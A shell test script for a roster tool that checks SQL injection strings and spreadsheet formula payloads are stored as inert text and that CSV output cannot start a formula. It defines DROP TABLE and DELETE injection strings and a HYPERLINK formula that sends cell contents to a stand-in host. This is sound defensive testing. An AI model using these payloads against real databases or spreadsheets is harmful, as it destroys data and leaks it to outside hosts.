#!/bin/sh
test_description='hostile text is data: SQL in names, notes and files is
stored as typed and changes no table; CSV output cannot start a formula'
. "$(dirname "$0")/test-lib.sh"

# Text that would break SQL pasted into a statement, or run in a
# spreadsheet.
SQL1="Bobby'); DROP TABLE member; --"
SQL2='Ro" OR 1=1; DELETE FROM grp; --'
FORMULA='=HYPERLINK("http://x.example/?"&A1,"click")'

schema() {
	test_sql "SELECT type, name, sql FROM sqlite_schema ORDER BY name"
}

# member_field HANDLE COLUMN: one column of one member, from the database.
member_field() {
	test_sql "SELECT $2 FROM member WHERE handle = '$1'"
}

# csv_quote TEXT: TEXT as one quoted CSV field.
csv_quote() {
	printf '"%s"' "$(printf '%s' "$1" | sed 's/"/""/g')"
}

test_expect_success 'setup: a group, and the schema as it is' '
	test_fresh_db &&
	circle group add --handle tc --tz UTC "Tuesday Circle" >/dev/null &&
	circle session plan --group tc --every week --on tuesday --at 19:00 \
	    --from 2026-01-06 --count 2 >/dev/null &&
	schema >schema.before
'

test_expect_success 'names and notes with SQL in them are stored as typed' '
	h1=$(circle roster add --notes "$SQL2" "$SQL1") &&
	h2=$(circle roster add --pronouns "$SQL1" "$SQL2") &&
	echo "$h1" >h1 &&
	circle roster edit --full-name "$SQL2" "$h1" &&
	test "$(member_field "$h1" display_name)" = "$SQL1" &&
	test "$(member_field "$h1" notes)" = "$SQL2" &&
	test "$(member_field "$h1" full_name)" = "$SQL2" &&
	test "$(member_field "$h2" display_name)" = "$SQL2" &&
	test "$(member_field "$h2" pronouns)" = "$SQL1" &&
	circle roster show "$h1" >out &&
	test_grep -F "$SQL1" out &&
	test "$(test_sql "SELECT count(*) FROM member")" = 2 &&
	test "$(test_sql "SELECT count(*) FROM grp")" = 1 &&
	schema >schema.after &&
	test_cmp schema.before schema.after
'

test_expect_success 'a reference with SQL or a wildcard in it finds no one' '
	test_expect_code 1 circle roster show "x'"'"' OR '"'"'1'"'"'='"'"'1" \
	    >out 2>err &&
	test_must_be_empty out &&
	test_expect_code 1 circle roster show "%" >out 2>err &&
	test_must_be_empty out
'

test_expect_success 'an imported file with SQL and formulas: stored as typed' '
	{
		echo "Handle,Name,Notes" &&
		echo "cy-o,$(csv_quote "$SQL2"),$(csv_quote "$FORMULA")"
	} >hostile.csv &&
	circle roster import hostile.csv >out &&
	test_grep "^1 added, 0 updated, 0 unchanged" out &&
	test "$(member_field cy-o display_name)" = "$SQL2" &&
	test "$(member_field cy-o notes)" = "$FORMULA" &&
	schema >schema.after &&
	test_cmp schema.before schema.after
'

test_expect_success 'attendance and session notes with SQL: stored as typed' '
	circle attend mark --group tc --note "$SQL1" 2026-01-06 "$(cat h1)" \
	    >/dev/null &&
	test "$(test_sql "SELECT note FROM attendance")" = "$SQL1" &&
	circle session edit --group tc --notes "$SQL2" 2026-01-13 &&
	test "$(test_sql "SELECT notes FROM session
	    WHERE notes IS NOT NULL")" = "$SQL2" &&
	schema >schema.after &&
	test_cmp schema.before schema.after
'

test_expect_success 'CSV output: no cell starts a formula' '
	for c in "$FORMULA" "+1+1" "-1+1" "@SUM(A1)"; do
		circle roster add -- "$c" >/dev/null || return 1
	done &&
	circle roster list --everyone --format csv >out.csv &&
	! grep -E "(^|,)\"?[=+@-]" out.csv &&
	test_grep -F "\"'"'"'=HYPERLINK(" out.csv &&
	test_grep -F ",'"'"'@SUM(A1)," out.csv &&
	test_grep -F ",'"'"'-1+1," out.csv
'

test_done
